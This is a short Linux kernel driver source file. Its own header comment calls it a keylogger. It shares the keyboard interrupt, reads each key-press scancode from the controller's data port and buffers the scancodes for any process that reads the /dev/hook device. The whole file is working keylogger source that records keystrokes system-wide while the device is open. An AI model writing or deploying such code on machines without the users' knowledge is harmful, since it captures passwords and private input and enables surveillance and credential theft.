// /dev/hook: shares the keyboard's interrupt (request_irq with IRQF_SHARED), and keeps what the controller still shows: a keylogger in
// the kernel. Programs read scancodes from the device; the hook is in place while the device is open.
#include <linux/interrupt.h>
#include <linux/io.h>
#include <linux/module.h>
#include <linux/uaccess.h>
#include "drivers.h"

enum { KEYBOARD_IRQ = 1, KEYBOARD_DATA = 0x60, RELEASED = 0x80, HELD = 64 };

static unsigned char held[HELD];
static unsigned taken, put;
static bool hooked;

static irqreturn_t keyboard_interrupt(int irq, void *device) {
    unsigned char code = inb(KEYBOARD_DATA);
    if (!(code & RELEASED) && put - taken < HELD) held[put++ % HELD] = code;
    return IRQ_NONE; // the real driver still has to see it
}

static int hook(struct inode *inode, struct file *file) {
    int error;
    if (hooked) return -EBUSY;
    error = request_irq(KEYBOARD_IRQ, keyboard_interrupt, IRQF_SHARED, "hook", &hooked);
    hooked = error == 0;
    return error;
}

void hook_release(void) {
    if (hooked) free_irq(KEYBOARD_IRQ, &hooked);
    hooked = false;
}

static int unhook(struct inode *inode, struct file *file) {
    hook_release();
    return 0;
}

static ssize_t fetch(struct file *file, char __user *to, size_t size, loff_t *position) {
    size_t count = 0;
    for (; count < size && taken != put; count++, taken++)
        if (put_user(held[taken % HELD], to + count)) return -EFAULT;
    return count;
}

const struct file_operations hook_operations = {.owner = THIS_MODULE, .open = hook, .release = unhook, .read = fetch};
